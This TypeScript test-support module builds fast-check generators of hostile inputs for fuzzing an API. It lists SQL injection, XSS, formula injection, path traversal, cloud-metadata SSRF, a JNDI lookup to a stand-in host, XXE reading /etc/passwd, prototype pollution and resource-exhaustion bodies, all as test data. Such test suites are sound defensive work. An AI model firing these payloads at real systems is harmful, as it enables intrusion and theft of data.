import * as fc from "fast-check";

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1; ATTACH DATABASE 'x' AS y",
  '" OR ""="',
  "') UNION SELECT password_hash FROM users --",
  "admin'/*",
  "%' AND 1=0 UNION ALL SELECT sql FROM sqlite_master --",
  "\\'; SELECT 1",
  "0x27204f5220313d31",
  "%_%_%",
  "NULL",
  "' || (SELECT hex(randomblob(99999999))) || '",
];
const FTS = [
  '"',
  "NEAR(",
  "a AND",
  "* NOT *",
  "title:x",
  '"" OR ""',
  "-",
  "(((",
  "^a",
  "a NEAR/99999 b",
];
const XSS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "<svg/onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7}#{7*7}<%= 7*7 %>",
  "</title><base href=//evil.test>",
  "<iframe srcdoc='<script>1</script>'>",
];
const CELLS = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1", "\r=1"];
const PLACES = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/dev/null",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data",
  "C:\\",
  ".",
  "..",
  "%2e%2e%2f",
  "%00",
  "a%00b",
  "\u0000",
];
const UNICODE = [
  "",
  " ",
  "\u00a0\u2003\u200b\ufeff",
  "\ud800",
  "\udfff\ud800",
  "\ufffe\uffff",
  "\u202eabc\u202c",
  "e\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "ﷺ",
  "İıſK",
  "𝕋𝕙𝕖",
  "田中さん",
  "مرحبا",
  "\u2028\u2029",
  "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
  "\r\nSet-Cookie: x=y",
  "\u001b[31mred",
  "\b\f\v\u007f\u0085",
];
const WORDS = [
  "undefined",
  "null",
  "true",
  "NaN",
  "Infinity",
  "-0",
  "1e400",
  "0x10",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "[object Object]",
  "0000-00-00",
  "9999-12-31",
  "2026-02-30",
  "9223372036854775808",
  "()",
  "$where",
  "${jndi:ldap://evil.test/x}",
  "cli_01ARZ3NDEKTSV4RRFFQ69G5FAV",
  "org_01ARZ3NDEKTSV4RRFFQ69G5FAV",
];
const LONG = [
  "x".repeat(129),
  "é".repeat(2_000),
  "9".repeat(5_000),
  "💥".repeat(10_000),
  "a ".repeat(40_000),
];

/** Texts that have broken something somewhere. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SQL,
  ...FTS,
  ...XSS,
  ...CELLS,
  ...PLACES,
  ...UNICODE,
  ...WORDS,
  ...LONG,
];

const NUMBERS = [
  0,
  -0,
  -1,
  1,
  0.1,
  1.5,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 1,
  Number.MIN_SAFE_INTEGER,
  2 ** 31,
  2 ** 32,
  2 ** 63,
  -(2 ** 63),
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e21,
  1e-7,
];

/** JSON text, so that keys like `__proto__` are keys. */
const OBJECTS = [
  "{}",
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"__proto__":null}',
  '{"toString":1,"valueOf":1,"toJSON":1}',
  '{"length":-1}',
  '{"then":"x"}',
  '{"$ne":null}',
  '{"$ref":"#/"}',
  "[]",
  "[[]]",
  "[null]",
  '["__proto__"]',
];

function nested(depth: number, kind: "list" | "object"): unknown {
  let value: unknown = 1;
  for (let at = 0; at < depth; at += 1) value = kind === "list" ? [value] : { a: value };
  return value;
}

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** A text that means harm. */
export const hostileText: fc.Arbitrary<string> = text;

/** Any JSON value that means harm. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.constantFrom(...NUMBERS),
  fc.constantFrom(null, true, false),
  fc.constantFrom(...OBJECTS).map((json) => JSON.parse(json) as unknown),
  fc.jsonValue({ maxDepth: 4 }),
  fc.constantFrom(
    nested(60, "list"),
    nested(60, "object"),
    Array.from({ length: 600 }, () => 0),
  ),
);

function bytes(...parts: (string | number[])[]): Uint8Array {
  const list = parts.map((part) =>
    typeof part === "string" ? new TextEncoder().encode(part) : Uint8Array.from(part),
  );
  const whole = new Uint8Array(list.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of list) {
    whole.set(part, at);
    at += part.length;
  }
  return whole;
}

/** Bodies that are no good JSON, or too much of it, as they go over the wire. */
export const HOSTILE_BODIES: readonly Uint8Array[] = [
  bytes(""),
  bytes(" \n\t"),
  bytes("{"),
  bytes('{"a":'),
  bytes("{'a':1}"),
  bytes('{"a":1,}'),
  bytes("[1,2"),
  bytes("NaN"),
  bytes("undefined"),
  bytes('{"a":1}{"b":2}'),
  bytes("// x\n{}"),
  bytes('"\\ud800"'),
  bytes('{"a":"\\u0000"}'),
  bytes('{"a":1e999,"b":-1e999}'),
  bytes('{"a":1,"a":{"__proto__":{"polluted":true}}}'),
  bytes("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
  bytes("a=1&b=2"),
  bytes('{"a":"', [0xff, 0xfe, 0xc0, 0xaf], '"}'),
  bytes('{"a":"', [0xed, 0xa0, 0x80], '"}'),
  bytes([0xef, 0xbb, 0xbf], "{}"),
  bytes([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  bytes([0x1f, 0x8b, 0x08, 0x00, 0x00]),
  bytes([0x00]),
  bytes("[".repeat(20_000), "]".repeat(20_000)),
  bytes("[".repeat(500_000)),
  bytes('{"a":'.repeat(20_000), "1", "}".repeat(20_000)),
  bytes("{", Array.from({ length: 50_000 }, (_, at) => `"k${at}":0`).join(), "}"),
  bytes(`"${"x".repeat(1_048_570)}"`),
  bytes(`{"a":"${"x".repeat(1_100_000)}"}`),
];
